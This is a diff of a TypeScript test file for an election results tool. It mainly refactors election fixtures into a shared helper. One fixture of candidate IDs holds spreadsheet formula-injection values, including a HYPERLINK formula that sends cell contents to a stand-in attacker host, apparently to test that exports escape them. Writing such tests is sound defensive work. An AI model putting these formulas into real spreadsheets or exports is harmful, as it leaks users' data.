@@ -32,43 +32,23 @@ interface ResultJson {
 const SAMPLE_DURING = new Date('2023-08-10T12:00:00Z');
 const SAMPLE_AFTER = new Date('2023-09-01T00:00:00Z');
 
+/** An election voting from 1 to 20 August 2023, with kalkayan as its officer. */
+function augustElection(key: string, name: string, candidates: ReturnType<typeof makeCandidate>[], voters: string[], noWinners = 1) {
+  return makeElection({ key, name, startDatetime: new Date('2023-08-01T00:00:00Z'), endDatetime: new Date('2023-08-20T00:00:00Z'), noWinners, voters, officers: ['kalkayan'], candidates });
+}
+
 const IDS = ['ava', 'bea', 'cal', 'dex', 'eli', 'fox'];
-const steering = makeElection({
-  key: 'steering',
-  name: 'Steering 2026',
-  startDatetime: new Date('2023-08-01T00:00:00Z'),
-  endDatetime: new Date('2023-08-20T00:00:00Z'),
-  noWinners: 3,
-  voters: Array.from({ length: 40 }, (_, i) => `voter${i}`),
-  officers: ['kalkayan'],
-  candidates: IDS.map((id) => makeCandidate(id, `${id[0]!.toUpperCase()}${id.slice(1)} Example`)),
-});
+const steering = augustElection('steering', 'Steering 2026', IDS.map((id) => makeCandidate(id, `${id[0]!.toUpperCase()}${id.slice(1)} Example`)), Array.from({ length: 40 }, (_, i) => `voter${i}`), 3);
 
 // Candidate IDs come from file names (`candidate-<ID>.md`), which anyone opening a pull
 // request chooses: these would be formulas in a spreadsheet if written as they are.
 const HOSTILE_IDS = ['=HYPERLINK("https://evil.example/?"&A1,"Vote")', '+cmd', '-2+3', '@SUM(1)', "'=quoted", 'plain'];
-const hostile = makeElection({
-  key: 'hostile',
-  name: 'Hostile names',
-  startDatetime: new Date('2023-08-01T00:00:00Z'),
-  endDatetime: new Date('2023-08-20T00:00:00Z'),
-  voters: ['voter0', 'voter1', 'voter2'],
-  officers: ['kalkayan'],
-  candidates: HOSTILE_IDS.map((id) => makeCandidate(id, `Candidate ${id}`)),
-});
+const hostile = augustElection('hostile', 'Hostile names', HOSTILE_IDS.map((id) => makeCandidate(id, `Candidate ${id}`)), ['voter0', 'voter1', 'voter2']);
 
 // More candidates than the results page shows tables for, and few ballots, so the
 // ranking is one large tie whose explanation is longer than the page shows.
 const WIDE_IDS = Array.from({ length: 120 }, (_, i) => `c${String(i).padStart(3, '0')}`);
-const wide = makeElection({
-  key: 'wide',
-  name: 'Many candidates',
-  startDatetime: new Date('2023-08-01T00:00:00Z'),
-  endDatetime: new Date('2023-08-20T00:00:00Z'),
-  voters: ['voter0', 'voter1', 'voter2'],
-  officers: ['kalkayan'],
-  candidates: WIDE_IDS.map((id) => makeCandidate(id)),
-});
+const wide = augustElection('wide', 'Many candidates', WIDE_IDS.map((id) => makeCandidate(id)), ['voter0', 'voter1', 'voter2']);
 
 /** A small deterministic generator, so a failure can be replayed. */
 function generator(seed: number): (n: number) => number {
